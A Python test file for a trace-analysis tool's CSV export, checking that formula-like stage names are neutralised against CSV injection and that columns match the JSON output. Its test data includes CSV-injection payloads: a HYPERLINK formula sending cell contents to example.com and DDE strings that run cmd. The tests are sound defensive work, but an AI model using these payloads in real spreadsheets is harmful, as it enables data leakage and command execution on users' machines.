"""CSV cells a spreadsheet opens as text (issue 45): a stage named like a formula is written
after a single quote, as OWASP advises for CSV injection."""

from __future__ import annotations

import csv
import dataclasses
import io
import json

import pytest
from typer.testing import CliRunner

from tests.conftest import SAMPLE_TRACES, shipped_report, shipped_trace
from trace_gaps.cli import app
from trace_gaps.figures.stage import STAGE_FIGURES, StageSummary, csv_figures
from trace_gaps.render import csv as csv_render
from trace_gaps.render.csv import inert_cell, render_csv
from trace_gaps.render.json import render_json

runner = CliRunner()

# The ledger's columns, in their places (docs/json.md names the same keys); written out here,
# not read from the renderer, so that a column that disappears fails the header checks.
LEDGER_COLUMNS = [
    "pid",
    "stage",
    "bucket",
    "cause",
    "ns_per_step",
    "steps_analysed",
    "lever",
    "saving_ns",
    "predicted_step_ns",
    "kind",
    "export_file",
]


def csv_header() -> str:
    """A sound export's CSV header: the ledger's columns, then each figure declared in_csv."""
    return ",".join([*LEDGER_COLUMNS, *(f.name for f in csv_figures())])


FORMULAS = [
    '=HYPERLINK("http://example.com/x?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_is_quoted(name):
    assert inert_cell(name) == "'" + name


@pytest.mark.parametrize("name", ["forward", "(no stage)", "a=b", "x-1", "", "'=quoted"])
def test_other_text_is_written_as_is(name):
    assert inert_cell(name) == name


def test_stages_named_like_formulas_reach_the_csv_as_text(export_builder):
    builder = export_builder()
    names = FORMULAS[:4]
    for s in range(3):
        base = s * 100_000
        builder.range("step", base, base + 90_000)
        for i, name in enumerate(names):
            start = base + i * 10_000
            builder.range(name, start, start + 9_000)
            builder.launch(name, start + 100, start + 600, start + 1_000, start + 8_000)
    result = runner.invoke(app, ["analyze", str(builder.write()), "--skip", "0", "-f", "csv"])
    assert result.exit_code == 0, result.output
    stages = {row["stage"] for row in csv.DictReader(io.StringIO(result.stdout))}
    assert {"'" + name for name in names} <= stages
    assert not any(stage.startswith(("=", "+", "-", "@")) for stage in stages)


def test_figures_declared_in_csv_are_columns_holding_the_json_figures(monkeypatch):
    # Declare three figures in_csv (a string, a float, a nullable one) and compare each
    # cell with the same stage's figure in the JSON of the same report.
    names = ["execution", "syncs_per_step", "nodes_per_replay"]
    declared = [dataclasses.replace(STAGE_FIGURES[name], in_csv=True) for name in names]
    monkeypatch.setattr(csv_render, "csv_figures", lambda: declared)
    report = shipped_report(SAMPLE_TRACES / "spec_graph_graphmode.sqlite")
    rows = list(csv.DictReader(io.StringIO(render_csv(report))))
    assert list(rows[0]) == [*LEDGER_COLUMNS, *names]
    stages = {
        (process["pid"], stage["name"]): stage
        for process in json.loads(render_json(report))["processes"]
        for stage in process["stages"]
    }
    checked = 0
    for row in rows:
        stage = stages.get((int(row["pid"]), row["stage"]))
        for name in names:
            value = None if stage is None else stage[name]
            assert row[name] == ("" if value is None else str(value))
            checked += stage is not None
    assert checked and any(row["nodes_per_replay"] == "" for row in rows)


def test_each_row_names_its_kind_of_step_and_its_export():
    # serving_sglang's steps come in two kinds, each analysed apart: one pid, two ledgers
    # that only the kind tells apart.
    sglang = shipped_trace("serving_sglang")
    result = runner.invoke(app, ["analyze", str(sglang), "-f", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {(row["pid"], row["kind"], row["export_file"]) for row in rows} == {
        ("793", "DECODE", "serving_sglang.sqlite"),
        ("793", "EXTEND", "serving_sglang.sqlite"),
    }
    # Two exports: each row names the one its process is of; steps without kinds: "".
    exports = [SAMPLE_TRACES / "spec_eager.sqlite", SAMPLE_TRACES / "spec_sync.sqlite"]
    result = runner.invoke(app, ["analyze", *map(str, exports), "-f", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {(row["pid"], row["kind"], row["export_file"]) for row in rows} == {
        ("484", "", "spec_eager.sqlite"),
        ("941", "", "spec_sync.sqlite"),
    }


def test_only_scalar_figures_are_declared_in_csv():
    # A dict or a record has no one cell: the CSV takes ints, floats and strings.
    scalars = {"int", "float", "str", "int | None", "float | None", "str | None"}
    types = {f.name: f.type for f in dataclasses.fields(StageSummary)}
    assert all(types[f.name] in scalars for f in csv_figures())
